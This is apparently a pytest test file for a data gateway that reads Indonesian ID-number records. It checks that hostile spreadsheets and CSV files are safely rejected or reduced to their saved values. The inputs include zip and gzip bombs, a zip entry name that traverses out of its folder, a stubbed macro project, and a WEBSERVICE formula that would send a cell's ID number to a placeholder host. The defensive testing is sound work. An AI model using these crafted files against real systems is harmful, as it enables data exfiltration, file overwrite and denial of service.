"""Spreadsheets and delimited text that mean no good, put where a system's file looks for them and asked for over HTTP."""

import gzip
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from tests.fixtures.case import case
from tests.fixtures.hostile import changed, dimension, far_cell, plain, protected
from tests.fixtures.town import Town, new_town

pytestmark = pytest.mark.anyio
PROPERTIES = """\
      - {name: nik, logicalType: string, primaryKey: true, primaryKeyPosition: 1, classification: terbatas,
         customProperties: [{property: titian.semantic, value: nik}]}
      - {name: nama, logicalType: string, classification: terbatas}
      - {name: nilai, logicalType: integer, classification: terbatas, customProperties: [{property: titian.semantic, value: money}]}
"""
SYSTEM = """\
id = "dinsos.lembar"
title = "Lembar"
kind = "sheet"
legal_basis = "Perwal uji"
[connection]
source = "berkas/*"
timeout = 20.0
[[resource]]
contract = "orang"
[resource.map]
nik = "nik"
nama = "nama"
nilai = { from = "nilai", as = "rupiah" }
"""
SITI = {"nik": "1276010101909001", "nama": "Siti Contoh", "nilai": None}


def town(tmp_path: Path, name: str, content: bytes) -> Town:
    made = new_town(tmp_path / "kota-uji")
    made.contract("orang", PROPERTIES)
    made.write("systems/dinsos.lembar.toml", SYSTEM)
    path = made.write(f"berkas/{name}", "")
    path.write_bytes(content)
    os.utime(path, (1_700_000_000, 1_700_000_000))
    made.client("dinsos-app", "dinsos")
    return made


async def asked(tmp_path: Path, name: str, content: bytes) -> tuple[int, Any]:
    """The status, and the records or the word of the failure."""
    async with town(tmp_path, name, content).open() as asking:
        reply = await asking.get("/v1/orang", "dinsos-app")
        assert (await asking.http.get("/healthz")).status_code == 200
        assert str(tmp_path) not in reply.text
        return reply.status_code, reply.json()["data"] if reply.status_code == 200 else reply.json()["reason"]


def formula(folder: Path) -> bytes:
    """A formula whose saved result is one text and whose computing would give another."""
    path = folder / "rumus.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["nik", "nama"])
        sheet.write_string(1, 0, SITI["nik"])
        sheet.write_formula(1, 1, '=WEBSERVICE("http://127.0.0.1:1/"&A2)', None, SITI["nama"])
    return path.read_bytes()


SHEETS: dict[str, tuple[str, Callable[[bytes, Path], bytes], int | str]] = {
    "zip bomb": ("a.xlsx", lambda good, _: changed(good, more={"xl/media/a.bin": bytes(120_000_000)}), "zip_bomb"),
    "a thousand files": ("a.xlsx", lambda good, _: changed(good, more={f"xl/{number}": b"" for number in range(1001)}), "zip_bomb"),
    "gzip bomb": ("a.xlsx.gz", lambda _good, _: gzip.compress(bytes(60_000_000)), "zip_bomb"),
    "a dimension of 10^6 by 10^4": ("a.xlsx", lambda good, _: dimension(good, b"A1:NTP1000000"), 200),
    "a cell 10^6 by 10^4 away": ("a.xlsx", lambda good, _: far_cell(good), "sheet_too_large"),
    "an external link": ("a.xlsx", lambda good, _: changed(good, more={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), 200),
    "macros": ("a.xlsm", lambda good, _: changed(good, more={"xl/vbaProject.bin": b"\0" * 100}), 200),
    "a name that climbs out of the zip": ("a.xlsx", lambda good, _: changed(good, more={"../../kota/city.toml": b"[city]"}), 200),
    "a password": ("a.xlsx", lambda _good, _: protected(), "encrypted_sheet"),
    "xls that is HTML": ("a.xls", lambda _good, _: b"<html><table><tr><td>Siti</td></tr></table></html>", "html_not_a_sheet"),
    "xlsx that is called xls": ("a.xls", lambda good, _: good, 200),
    "a formula with a saved value": ("a.xlsx", lambda _good, folder: formula(folder), 200),
}


@case(
    "H34",
    sent="spreadsheets: bombs, a million rows by ten thousand columns, links, macros, names that climb, a password, a false name, formulas",
    must="saved values only, in a bounded process; else 502 source_bad_answer with a word of ours; the gateway goes on and no file is written",
)
@pytest.mark.parametrize("name", SHEETS)
async def test_a_spreadsheet_is_its_saved_values_or_one_word(tmp_path: Path, name: str) -> None:
    file, made, expected = SHEETS[name]
    found = await asked(tmp_path, file, made(plain(tmp_path), tmp_path))
    assert found == ((200, [SITI]) if expected == 200 else (502, expected))
    assert (tmp_path / "kota-uji" / "kota" / "city.toml").read_text().startswith('[city]\nid = "kota-uji"')


CSV = "nik;nama;nilai\n1276010101909001;Siti Contoh;{}\n"
TEXTS: dict[str, tuple[bytes, Any]] = {
    "NUL": (CSV.format("\0").encode(), "not_text"),
    "two encodings": (CSV.format("é").encode() + "é;é;é\n".encode("cp1252"), "charset"),
    "a line of 10 MB": (b"nik;nama\n" + b"x" * 10_000_000 + b";1\n", "cell_too_long"),
    "ten million cells": (b"nik;nama\n" + b"x;" * 5_000_000 + b"\n", "too_many_columns"),
    "a quote without an end": (b'nik;nama\n"1;2\n', "broken_quotes"),
    "commas": (CSV.replace(";", ",").format("").encode(), None),
    "a byte order mark": (b"\xef\xbb\xbf" + CSV.format("").encode(), None),
    "UTF-16": (CSV.format("").encode("utf-16"), None),
    "Indonesian decimals": (CSV.format("1.234,00").encode(), 1234),
    "CSV that is called xlsx": (CSV.format("1.234.567").encode(), 1234567),
}


@case(
    "H35",
    sent="delimited text: NUL, two encodings, a line of 10 MB, ; or , between the cells, a byte order mark, 1.234,00",
    must="read as what it says, or 502 source_bad_answer with the word of what is wrong; nothing is guessed",
)
@pytest.mark.parametrize("name", TEXTS)
async def test_text_is_read_as_it_says_or_not_at_all(tmp_path: Path, name: str) -> None:
    content, expected = TEXTS[name]
    found = await asked(tmp_path, "a.xlsx" if "xlsx" in name else "a.csv", content)
    assert found == ((502, expected) if isinstance(expected, str) else (200, [{**SITI, "nilai": expected}]))
